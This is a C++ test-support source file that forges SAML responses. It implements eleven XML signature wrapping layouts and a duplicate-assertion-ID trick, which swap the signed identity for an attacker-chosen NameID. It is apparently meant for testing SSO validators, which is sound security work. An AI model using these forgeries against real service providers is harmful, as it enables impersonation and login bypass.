// XML signature wrapping layouts (see saml_forge.hpp for the table) and duplicate IDs.
#include <stdexcept>

#include "support/saml/saml_forge.hpp"
#include "support/saml/xml_tree.hpp"

namespace ssoc::test::saml {

namespace {

using namespace detail;

const xmlChar* to_xml(const char* text) {
  return reinterpret_cast<const xmlChar*>(text);
}

xmlNode* signature_of(xmlNode* element) {
  return child_element(element, kDsigNs, "Signature");
}

// Makes `copy` the attacker's: NameIDs and the AttributeValues that repeat the original NameID
// (the Email) say `evil_name_id`; with fresh_ids every Response and Assertion in it gets a new ID.
void make_evil(xmlNode* copy, const std::string& original_name_id, const std::string& evil_name_id,
               bool fresh_ids) {
  for (xmlNode* name_id : find_all(copy, kAssertionNs, "NameID")) set_text(name_id, evil_name_id);
  for (xmlNode* value : find_all(copy, kAssertionNs, "AttributeValue")) {
    if (text_of(value) == original_name_id) set_text(value, evil_name_id);
  }
  if (!fresh_ids) return;
  for (xmlNode* response : find_all(copy, kProtocolNs, "Response"))
    set_attribute(response, "ID", random_id());
  for (xmlNode* assertion : find_all(copy, kAssertionNs, "Assertion"))
    set_attribute(assertion, "ID", random_id());
}

// A copy of `element` without its own ds:Signature: what the signature's digest covers.
xmlNode* unsigned_copy(xmlNode* element) {
  xmlNode* copy = deep_copy(element);
  if (xmlNode* signature = signature_of(copy)) remove_node(signature);
  return copy;
}

// A new element in the namespace of `like` (protocol, assertion or dsig).
xmlNode* new_element_like(xmlNode* like, const char* local_name) {
  return xmlNewDocNode(like->doc, like->ns, to_xml(local_name), nullptr);
}

// samlp:Extensions of the response, where the schema puts it: after Issuer and Signature.
xmlNode* add_extensions(xmlNode* response) {
  xmlNode* status = child_element(response, kProtocolNs, "Status");
  if (status == nullptr) throw std::invalid_argument("the response has no samlp:Status");
  return xmlAddPrevSibling(status, new_element_like(response, "Extensions"));
}

// saml:Advice of the assertion, where the schema puts it: after Conditions (else Subject).
xmlNode* add_advice(xmlNode* assertion) {
  xmlNode* advice = new_element_like(assertion, "Advice");
  for (const char* before : {"Conditions", "Subject", "Issuer"}) {
    if (xmlNode* anchor = child_element(assertion, kAssertionNs, before))
      return xmlAddNextSibling(anchor, advice);
  }
  return xmlAddChild(assertion, advice);
}

struct Parts {
  Doc doc;
  xmlNode* response;
  xmlNode* assertion;  // the first assertion, child of the response (may be null)
  std::string original_name_id;
};

Parts open_response(const std::string& signed_xml) {
  Parts parts{parse_xml(signed_xml), nullptr, nullptr, {}};
  parts.response = xmlDocGetRootElement(parts.doc.get());
  if (!is_element(parts.response, kProtocolNs, "Response"))
    throw std::invalid_argument("the document is not a samlp:Response");
  parts.assertion = child_element(parts.response, kAssertionNs, "Assertion");
  if (xmlNode* name_id = find_first(parts.response, kAssertionNs, "NameID"))
    parts.original_name_id = text_of(name_id);
  return parts;
}

void require_signed(xmlNode* element, int layout, const char* what, const char* setting) {
  if (element == nullptr || signature_of(element) == nullptr) {
    throw std::invalid_argument("XSW layout " + std::to_string(layout) + " wraps a signed " + what +
                                "; make the response with " + setting + "=true");
  }
}

void wrap_response(Parts& parts, int layout, const std::string& evil_name_id) {
  require_signed(parts.response, layout, "Response", "sign_response");
  xmlNode* original = unsigned_copy(parts.response);
  make_evil(parts.response, parts.original_name_id, evil_name_id, true);
  xmlNode* signature = signature_of(parts.response);
  if (layout == 1) {
    xmlAddChild(signature, original);
  } else if (layout == 2) {
    xmlAddPrevSibling(signature, original);
  } else {
    xmlAddChild(add_extensions(parts.response), original);
  }
}

void wrap_assertion(Parts& parts, int layout, const std::string& evil_name_id) {
  require_signed(parts.assertion, layout, "first Assertion", "sign_assertion");
  xmlNode* assertion = parts.assertion;
  if (layout == 3 || layout == 4 || layout == 7) {
    // An unsigned evil copy; the signed original stays untouched.
    xmlNode* evil = unsigned_copy(assertion);
    make_evil(evil, parts.original_name_id, evil_name_id, true);
    if (layout == 3) {
      xmlAddPrevSibling(assertion, evil);
    } else if (layout == 4) {
      xmlAddPrevSibling(assertion, evil);
      xmlUnlinkNode(assertion);
      xmlAddChild(evil, assertion);
    } else {
      xmlAddChild(add_extensions(parts.response), evil);
    }
    return;
  }
  // The signed assertion becomes the evil one (keeping the Signature); the original moves out.
  xmlNode* original = unsigned_copy(assertion);
  make_evil(assertion, parts.original_name_id, evil_name_id, true);
  xmlNode* signature = signature_of(assertion);
  switch (layout) {
    case 5: xmlAddChild(parts.response, original); break;
    case 6: xmlAddChild(signature, original); break;
    case 8:
      xmlAddChild(xmlAddChild(signature, new_element_like(signature, "Object")), original);
      break;
    case 10: xmlAddChild(add_advice(assertion), original); break;
    case 11: xmlAddChild(add_extensions(parts.response), original); break;
    default: throw std::logic_error("unhandled XSW layout");
  }
}

}  // namespace

std::string xsw(const std::string& signed_xml, int layout, const std::string& evil_name_id) {
  if (layout < 1 || layout > 11)
    throw std::invalid_argument("XSW layout " + std::to_string(layout) + " does not exist (1..11)");
  Parts parts = open_response(signed_xml);
  if (layout == 1 || layout == 2 || layout == 9) {
    wrap_response(parts, layout, evil_name_id);
  } else {
    wrap_assertion(parts, layout, evil_name_id);
  }
  return serialize(parts.doc.get());
}

std::string duplicate_assertion_id(const std::string& signed_xml, const std::string& evil_name_id,
                                   DuplicatePlace place) {
  Parts parts = open_response(signed_xml);
  if (parts.assertion == nullptr || signature_of(parts.assertion) == nullptr)
    throw std::invalid_argument("duplicate_assertion_id needs a signed Assertion (sign_assertion)");
  xmlNode* evil = unsigned_copy(parts.assertion);
  make_evil(evil, parts.original_name_id, evil_name_id, false);
  if (place == DuplicatePlace::before_original) {
    xmlAddPrevSibling(parts.assertion, evil);
  } else {
    xmlAddNextSibling(parts.assertion, evil);
  }
  return serialize(parts.doc.get());
}

}  // namespace ssoc::test::saml
